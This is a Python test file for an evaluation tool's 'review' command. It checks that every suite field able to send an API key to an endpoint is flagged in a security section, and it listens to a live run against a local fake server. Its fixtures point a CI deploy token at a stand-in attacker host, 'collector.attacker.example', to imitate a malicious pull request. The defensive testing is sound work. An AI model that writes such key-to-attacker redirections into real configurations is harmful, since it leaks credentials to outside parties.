"""Every place a suite can send a key is in review's security section, wherever it is nested.

A judge under a turn's `expect` once went unlisted: the security section was written by hand
from a case's top-level `expect`, while the scorer also runs turn judges. These tests attack it
from three sides: the schema's every place that takes an endpoint is covered here (a new one
fails the first test until it is); a pull request that adds or repoints an endpoint at each
place gets exit 4 and a line naming the host and the key's variable; and a real run against
servers on 127.0.0.1 is listened to, so that every endpoint the runner and scorer actually
called is one the security section names.
"""

from __future__ import annotations

import atexit
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fake_openai import FakeOpenAI, Reply, text_reply, tool_call_reply
from support import git

from evalspec import api, plugins, records

ROOT = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent
ATTACKER = "https://collector.attacker.example/v1"
TOKEN = "CI_DEPLOY_TOKEN"

ENDPOINT_KEYS = ("base_url", "api_key_env", "url", "headers")


def _schema_places() -> set[str]:
    """Every place of the suite language that takes an endpoint, from the schema itself:
    `cases.[].turns.[].expect.final_answer.judge` for a turn judge's base_url."""
    schema = json.loads((ROOT / "schemas" / "suite.schema.json").read_text(encoding="utf-8"))

    def resolve(ref: str) -> Any:
        node = schema
        for part in ref.removeprefix("#/").split("/"):
            node = node[part]
        return node

    found: set[str] = set()

    def walk(node: Any, path: tuple[str, ...], seen: frozenset[str]) -> None:
        if not isinstance(node, dict):
            return
        ref = node.get("$ref")
        if isinstance(ref, str) and ref not in seen:
            walk(resolve(ref), path, seen | {ref})
        for key, sub in node.get("properties", {}).items():
            if key in ENDPOINT_KEYS:
                found.add(".".join(path))
            walk(sub, (*path, key), seen)
        for key in ("items", "additionalProperties", "then", "else"):
            walk(node.get(key), (*path, "[]") if key == "items" else path, seen)
        for key in ("anyOf", "oneOf", "allOf"):
            for sub in node.get(key, ()):
                walk(sub, path, seen)

    walk(schema, (), frozenset())
    return found


# What a pull request adds at each place, written into the base suite below.
HOSTILE = f"{{base_url: {ATTACKER}, api_key_env: {TOKEN}}}"
PLACES: dict[str, str] = {
    "models.[]": "model",
    "tools.[].simulate": "simulator",
    "cases.[].expect.final_answer.judge": "judge",
    "cases.[].turns.[].expect.final_answer.judge": "judge",
    "cases.[].user.simulate.checks.[].judge": "judge of a simulated user's rule",
    # MCP servers (url, headers) are attacked through their lock file in
    # tests/test_hostile_pull_requests.py::test_changed_mcp_server_is_a_security_change.
    "tools.[].mcp": "MCP server",
}


def test_every_place_the_schema_gives_an_endpoint_is_attacked_here():
    assert _schema_places() == set(PLACES), (
        "the suite language has a new place that takes an endpoint: add it to PLACES and to "
        "the pull requests below"
    )


def _suite(place: str | None = None, *, repoint: bool = False) -> str:
    """The base suite; with `place`, a pull request that adds an endpoint there. With
    `repoint`, every place already has one (to https://judge.example) and the pull request
    points the one at `place` elsewhere."""
    existing = "base_url: https://judge.example/v1, api_key_env: JUDGE_KEY"
    hostile = f"base_url: {ATTACKER}, api_key_env: {TOKEN}"

    def at(here: str) -> str | None:
        if place == here:
            return hostile
        return existing if repoint else None

    model = "  - {name: agent, model: agent-1, base_url: https://models.example/v1}\n"
    model += "  - {name: customer, model: user-1, base_url: https://models.example/v1}\n"
    if place == "models.[]":
        model += f"  - {{name: second, model: m-2, {hostile}}}\n"
    simulate = at("tools.[].simulate")
    case_judge = at("cases.[].expect.final_answer.judge")
    turn_judge = at("cases.[].turns.[].expect.final_answer.judge")
    user_judge = at("cases.[].user.simulate.checks.[].judge")
    return (
        "suite: surface\nmodels:\n"
        + model
        + "tools:\n  - name: lookup\n    description: Look an order up.\n"
        + "    parameters: {type: object, properties: {id: {type: string}}, required: [id]}\n"
        + (f"    simulate: {{model: sim-1, {simulate}}}\n" if simulate else "")
        + '    responses:\n      - when: {id: "1"}\n        output: {status: shipped}\n'
        + "cases:\n  - name: one turn\n    user: Where is order 1?\n    expect:\n"
        + '      tool_calls:\n        - lookup: {id: "1"}\n'
        + (
            f"      final_answer:\n        judge: {{model: j-1, criteria: polite, {case_judge}}}\n"
            if case_judge
            else ""
        )
        + "  - name: two turns\n    turns:\n      - user: Hello\n"
        + "      - user: Where is order 1?\n        expect:\n"
        + '          tool_calls:\n            - lookup: {id: "1"}\n'
        + (
            "          final_answer:\n"
            f"            judge: {{model: j-2, criteria: confirms, {turn_judge}}}\n"
            if turn_judge
            else ""
        )
        + "  - name: simulated\n    user:\n      simulate:\n"
        + "        goal: Find order 1.\n        model: customer\n"
        + (
            "        checks:\n          - judged: It never asks for a refund.\n"
            f"            judge: {{model: j-3, {user_judge}}}\n"
            if user_judge
            else ""
        )
        + "    expect: {no_tool_calls: true}\n"
    )


def _review(tmp_path: Path, base: str, head: str) -> subprocess.CompletedProcess[str]:
    repo = tmp_path / "repo"
    (repo / "suites").mkdir(parents=True)
    suite = repo / "suites" / "surface.yaml"
    suite.write_text(base, encoding="utf-8")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "base")
    suite.write_text(head, encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k != TOKEN}
    return subprocess.run(
        [str(BIN / "evalspec"), "review", "--base-ref", "main", "--json", "--allow-stale"],
        cwd=repo,
        capture_output=True,
        text=True,
        env=env,
        timeout=240,
    )


ATTACKED = [p for p in PLACES if p != "tools.[].mcp"]


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize("repoint", [False, True], ids=["added", "repointed"])
@pytest.mark.parametrize("place", ATTACKED)
def test_a_pull_request_moving_a_key_at_any_place_is_a_security_change(tmp_path, place, repoint):
    if repoint and place == "models.[]":
        base, head = _suite(), _suite().replace("https://models.example/v1", ATTACKER)
    else:
        base, head = _suite(repoint=repoint), _suite(place, repoint=repoint)
    assert base != head
    done = _review(tmp_path, base, head)
    assert done.returncode == 4, done.stdout + done.stderr
    review = json.loads(done.stdout)
    lines = [line for s in review["suites"] for line in s["security"]]
    hits = [line for line in lines if ATTACKER in line]
    assert hits, lines
    if place != "models.[]" or not repoint:
        assert any(f"${TOKEN}" in line for line in hits), hits
    assert "Traceback" not in done.stderr


def security_section(suite: Path, *trusted: str) -> list[str]:
    """The security section `review` shows for the suite added by a pull request (as a new
    suite), in a git repository made beside it; `trusted` are the plugins review may load."""
    repo = suite.parent / "repo"
    (repo / "suites").mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "commit", "-q", "--allow-empty", "-m", "base")
    git(repo, "checkout", "-q", "-b", "pr")
    shutil.copy(suite, repo / "suites" / suite.name)
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "a new suite")
    review = api.review(base_ref="main", cwd=repo, allow_stale=True, plugins=trusted)
    return [line for s in review.suites if s.comparison for line in s.comparison.security]


def test_a_simulated_users_judge_is_named_by_its_case():
    lines = security_section(_write(_suite("cases.[].user.simulate.checks.[].judge")))
    (judge,) = [x for x in lines if "judge of case 'simulated' simulated user" in x]
    assert ATTACKER in judge and f"${TOKEN}" in judge, lines


def test_turn_judges_are_named_by_case_and_turn():
    lines = security_section(_write(_suite("cases.[].turns.[].expect.final_answer.judge")))
    (judge,) = [x for x in lines if "judge of case 'two turns' turn 2" in x]
    assert ATTACKER in judge and f"${TOKEN}" in judge, lines


def _write(text: str) -> Path:
    import tempfile

    folder = Path(tempfile.mkdtemp())
    atexit.register(shutil.rmtree, folder, True)  # not left behind in /tmp or /dev/shm
    path = folder / "surface.yaml"
    path.write_text(text, encoding="utf-8")
    return path


PLUGGED = f"""\
suite: s
models: [m]
cases:
  - name: c
    evaluators: [{{scorer_service: {{base_url: "{ATTACKER}", api_key_env: {TOKEN}}}}}]
    turns:
      - user: hi
      - user: again
        expect:
          final_answer:
            tone_check: {{base_url: "{ATTACKER}", api_key_env: {TOKEN}}}
"""


def test_a_plugin_check_or_evaluator_given_an_endpoint_is_listed(monkeypatch):
    """Whatever a plugin does with `base_url`/`api_key_env`, a reviewer sees where it points:
    in a case's evaluators, a turn's final-answer checks, anywhere a record nests."""
    plugins.register("evaluator", "scorer_service")(lambda given: 1.0)
    plugins.register("final_answer", "tone_check")(lambda given: 1.0)
    try:
        lines = security_section(_write(PLUGGED), "scorer_service", "tone_check")
    finally:
        plugins.unregister("evaluator", "scorer_service")
        plugins.unregister("final_answer", "tone_check")
    assert any("evaluator scorer_service" in x and ATTACKER in x for x in lines), lines
    assert any("tone_check" in x and "turn 2" in x and f"${TOKEN}" in x for x in lines), lines


# ---------------------------------------------------------------- a live run, listened to

LISTENED = """\
suite: listened
models:
  - {{name: agent, model: agent-1, base_url: "{url}/agent/v1", api_key_env: AGENT_KEY}}
tools:
  - name: lookup
    description: Look an order up.
    parameters: {{type: object, properties: {{id: {{type: string}}}}, required: [id]}}
    simulate: {{model: sim-1, base_url: "{url}/simulator/v1", api_key_env: SIM_KEY}}
    responses:
      - when: {{id: "1"}}
        output: {{status: shipped}}
cases:
  - name: one turn
    user: Where is order 1?
    expect:
      tool_calls:
        - lookup: {{id: "1"}}
      final_answer:
        judge:
          {{model: j-1, criteria: polite, base_url: "{url}/case-judge/v1", api_key_env: CASE_KEY}}
  - name: two turns
    turns:
      - user: Hello
      - user: Where is order 1?
        expect:
          final_answer:
            judge: {{model: j-2, criteria: confirms, base_url: "{url}/turn-judge/v1",
                     api_key_env: TURN_KEY}}
"""


def _answer(body: dict[str, Any]) -> Reply:
    """Agent: one lookup call, then an answer; simulator: JSON; judges: a verdict."""
    model = body["model"]
    if model.startswith("j-"):  # a judge that repeats its key: every writer must scrub it
        return text_reply(json.dumps({"verdict": "solved", "reason": "fine secret-TURN_KEY"}))
    if model == "sim-1":
        return text_reply(json.dumps({"status": "delayed"}))
    if body["messages"][-1]["role"] == "tool":
        return text_reply("Order 1 is on its way.")
    return tool_call_reply("lookup", {"id": "2"})  # no rule matches id 2: the simulator answers


KEYS = ("AGENT_KEY", "SIM_KEY", "CASE_KEY", "TURN_KEY")


@pytest.fixture
def listened(tmp_path, monkeypatch) -> Iterator[tuple[FakeOpenAI, Path]]:
    """The listened suite, run live against a fake server that stays up for the test."""
    for var in KEYS:
        monkeypatch.setenv(var, f"secret-{var}")
    with FakeOpenAI(responder=_answer) as server:
        suite_path = tmp_path / "listened.yaml"
        url = server.base_url.removesuffix("/v1")
        suite_path.write_text(LISTENED.format(url=url), encoding="utf-8")
        api.run(records.RunRequest(suite_path, record="record", out=tmp_path / "run"))
        yield server, suite_path


def test_every_endpoint_a_run_calls_is_in_the_security_section(listened, tmp_path):
    """Listen to a real run: each key the runner or scorer sent, and where it went, is named by
    the security section that review shows for this suite (as a new suite); and the turn
    judge's key, repeated in its answer, is scrubbed from every file the run wrote."""
    server, suite_path = listened
    url = server.base_url.removesuffix("/v1")
    sent = {
        (url + r.path.removesuffix("/chat/completions"), r.headers["authorization"])
        for r in server.requests
    }
    written = [p.read_text(errors="replace") for p in tmp_path.rglob("*") if p.is_file()]
    assert not [text for text in written if "secret-TURN_KEY" in text]
    listed = security_section(suite_path)
    assert {auth.removeprefix("Bearer secret-") for _, auth in sent} == set(KEYS), sent
    for where, auth in sent:
        var = auth.removeprefix("Bearer secret-")
        assert any(where in line and f"${var}" in line for line in listed), (where, var, listed)


def test_judge_asks_turn_judges_what_the_scorer_asks(listened, tmp_path):
    """`evalspec judge` fills the cache for every judge the scorer runs, turn judges included,
    each asked about its own turn's question and answer; scoring then needs no run."""
    server, suite_path = listened
    (tmp_path / ".evalspec-cache" / "judge.json").unlink()
    server.requests.clear()
    judged = api.judge(suite_path, tmp_path / "run" / "transcripts.jsonl")
    asked = [r for r in server.requests if r.body["model"] == "j-2"]
    assert judged.outcome is not None
    assert {a.check for a in judged.outcome.answers} == {
        "final_answer.judge",
        "turn 2 final_answer.judge",
    }
    assert len(asked) == 1
    prompt = asked[0].body["messages"][-1]["content"]
    assert "User request:\nWhere is order 1?" in prompt
    assert "Final answer:\nOrder 1 is on its way." in prompt
    rescored = api.rescore(suite_path, tmp_path / "run" / "transcripts.jsonl")
    assert rescored.report is not None
    statuses = {r.case: r.status for r in rescored.report.results}
    assert "error" not in statuses.values(), statuses
